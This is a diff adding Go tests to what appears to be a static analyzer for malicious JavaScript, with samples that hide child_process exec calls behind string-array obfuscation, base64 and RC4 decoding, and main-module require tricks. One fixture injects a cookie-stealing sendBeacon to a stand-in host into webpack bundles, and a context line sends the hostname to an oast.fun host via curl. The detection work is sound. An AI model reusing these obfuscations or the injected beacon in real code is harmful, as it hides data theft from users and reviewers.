@@ -806,6 +806,79 @@ require(a[0]);`), DefaultLimits())
 	}
 }
 
+// Properties of a constant object literal fold, and so do character
+// codes kept as fractions (Math.round(x * 256)), String.fromCharCode.apply
+// and an array of code arrays mapped by a decoder; a written object does
+// not fold to its literal.
+func TestObjectAndMathFolding(t *testing.T) {
+	f := Analyze("x.js", []byte(`var F = function (a) { return String.fromCharCode.apply(null, a.map(function (x) { return Math.round(x * 256) })) },
+  P = { m: [0.38671875, 0.40625], "e": "xec", ["r" + "est"]: "_process" },
+  W = [[0.1875, 0.46875, 0.1953125], [0.19140625, 0.1875, 0.19140625]].map(F);
+var cp = require(F(P.m) + "ild" + P["r" + "est"]);
+cp["e" + P.e]("id");`), DefaultLimits())
+	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
+		t.Errorf("object/float folding: imports %+v calls %+v", f.Imports, f.Calls)
+	}
+	if !hasString(f, "0x2") || !hasString(f, "101") {
+		t.Errorf("mapped code arrays not kept as strings: %+v", f.Strings)
+	}
+	for _, src := range []string{
+		`var P = { m: "fs" }; P.m = "child_process"; require(P.m);`,
+		`var P = { m: "fs" }; P = other; require(P.m);`,
+		`var P = { m: "fs", ...more }; require(P.m);`,
+	} {
+		if f := Analyze("x.js", []byte(src), DefaultLimits()); hasImport(f, "fs") {
+			t.Errorf("%s: folded to the literal: %+v", src, f.Imports)
+		}
+	}
+}
+
+// String-array obfuscation: the array is recovered in its run-time order
+// (a counted rotation, or one solved from its parseInt checksum) and the
+// decoder's calls fold, through base64 in the obfuscator's alphabet and
+// through local aliases of the decoder.
+func TestStringArrayDeobfuscation(t *testing.T) {
+	for name, src := range map[string]string{
+		"counted_base64": `var _0xa=['zxHLyW==','AwQ=','y2HPBgrFChjVy2vZCW=='];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0xa,0x1));
+var _0xb=function(_0x1,_0x2){_0x1=_0x1-0x0;var _0x3=_0xa[_0x1];if(_0xb['init']===undefined){var _0x4=function(_0x5){var _0x6='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';return atob(_0x5);};_0xb['d']=_0x4;_0xb['init']=!![];}_0x3=_0xb['d'](_0x3);return _0x3;};
+require(_0xb('0x1'))[_0xb('0x2')](_0xb('0x0'));`,
+		// RC4 over the base64, with the key in each call
+		"counted_rc4": `var _0xa=['34a','CoawlfiFDVZqvZrNcW','SfD3Ja'];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0xa,0x3));
+var _0xb=function(_0x1,_0x2){_0x1=_0x1-0x0;var _0x3=_0xa[_0x1];var _0x6='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var s=[],j=0x0;for(var i=0x0;i<0x100;i++){s[i]=i;}return rc4(_0x3,_0x2,s);};
+require(_0xb('0x1','Ab1c'))[_0xb('0x2','x9Zq')](_0xb('0x0','Qq#2'));`,
+		"checksum_alias": `function _0x5e1c(){const _0x3a=['id','7','x','1234abc','50xyz','child_process','exec'];_0x5e1c=function(){return _0x3a;};return _0x5e1c();}
+function _0x2b7d(_0x1,_0x2){const _0x5=_0x5e1c();return _0x2b7d=function(_0xa,_0xb){_0xa=_0xa-0x100;let _0xc=_0x5[_0xa];return _0xc;},_0x2b7d(_0x1,_0x2);}
+(function(_0x,_0xT){const _0xd=_0x2b7d,_0xa=_0x();while(!![]){try{const _0xs=parseInt(_0xd(0x100))/0x1+parseInt(_0xd(0x101))/0x2;if(_0xs===_0xT)break;else _0xa['push'](_0xa['shift']());}catch(_0xe){_0xa['push'](_0xa['shift']());}}}(_0x5e1c,0x4eb));
+function run(){const _0x9=_0x2b7d;require(_0x9(0x102))[_0x9(0x103)](_0x9(0x104));}run();`,
+	} {
+		f := Analyze("x.js", []byte(src), DefaultLimits())
+		if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
+			t.Errorf("%s: not deobfuscated: imports %+v calls %+v", name, f.Imports, f.Calls)
+		}
+	}
+	// a rotation whose checksum no rotation meets folds nothing
+	f := Analyze("x.js", []byte(`function _0x5e1c(){const _0x3a=['id','7','x','1234abc','50xyz','child_process','exec'];_0x5e1c=function(){return _0x3a;};return _0x5e1c();}
+function _0x2b7d(_0x1,_0x2){const _0x5=_0x5e1c();return _0x2b7d=function(_0xa,_0xb){_0xa=_0xa-0x100;let _0xc=_0x5[_0xa];return _0xc;},_0x2b7d(_0x1,_0x2);}
+(function(_0x,_0xT){const _0xd=_0x2b7d,_0xa=_0x();while(!![]){try{const _0xs=parseInt(_0xd(0x100))/0x1;if(_0xs===_0xT)break;else _0xa['push'](_0xa['shift']());}catch(_0xe){_0xa['push'](_0xa['shift']());}}}(_0x5e1c,0x3));
+require(_0x2b7d(0x102));`), DefaultLimits())
+	if hasImport(f, "x") || hasImport(f, "child_process") || hasImport(f, "1234abc") {
+		t.Errorf("unsolved rotation folded: %+v", f.Imports)
+	}
+}
+
+// require reached through the main module object held in a variable.
+func TestMainModuleRequire(t *testing.T) {
+	f := Analyze("x.js", []byte(`const host = process.mainModule || require.main || module;
+const r = host.require.bind(host); r("child_process").exec("id");`), DefaultLimits())
+	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
+		t.Errorf("main module's require: imports %+v calls %+v", f.Imports, f.Calls)
+	}
+	f = Analyze("x.js", []byte(`const host = options.host || module; host.require("child_process")`), DefaultLimits())
+	if hasImport(f, "child_process") {
+		t.Errorf("an object that may be another taken for the main module: %+v", f.Imports)
+	}
+}
+
 func TestArgShape(t *testing.T) {
 	f := Analyze("x.js", []byte("const os = require('os'); const { exec } = require('child_process');\n"+
 		"exec(`curl -d \"${os.hostname()}\" https://abc.oast.fun`);\n"+
@@ -1020,6 +1093,26 @@ fs.writeFileSync(r, "<html><body onload=\"go()\"></body></html>");`
 	f = Analyze("x.js", []byte(`window[cb]({"data": 1}); window[name]("plain words here")`), DefaultLimits())
 	if hasCall(f, "eval") != nil {
 		t.Errorf("JSONP-style call taken for eval: %+v", f.Calls)
+	}
+}
+
+// Code a build plugin puts into the bundles it emits is analysed as the
+// file's, even built around a run-time value; text built so is kept as a
+// template only when it reads as code.
+func TestBuildOutputAnalysed(t *testing.T) {
+	src := `const { ConcatSource } = require("webpack-sources");
+const pad = "                                                                                                   ";
+module.exports = (asset, id) => new ConcatSource(asset, "\n;(function(){var c='" + id + "';window.addEventListener('submit', function(){ navigator.sendBeacon('https://t.example/c', c + document.cookie) })})();" + pad);
+exports.banner = (v) => "/*! licence text for version " + v + " kept at the top of every chunk, with the authors and the copyright years " + pad + "*/";`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	if hasCall(f, "navigator.sendBeacon") == nil {
+		t.Errorf("emitted code's call not seen: %+v", f.Calls)
+	}
+	if len(f.Templates) != 1 || !strings.Contains(f.Templates[0].Value, "var c='0'") {
+		t.Errorf("templates: %+v", f.Templates)
+	}
+	if !BuildSink("sources.ConcatSource") || !BuildSink("compilation.updateAsset") || BuildSink("concat") {
+		t.Error("BuildSink")
 	}
 }
 
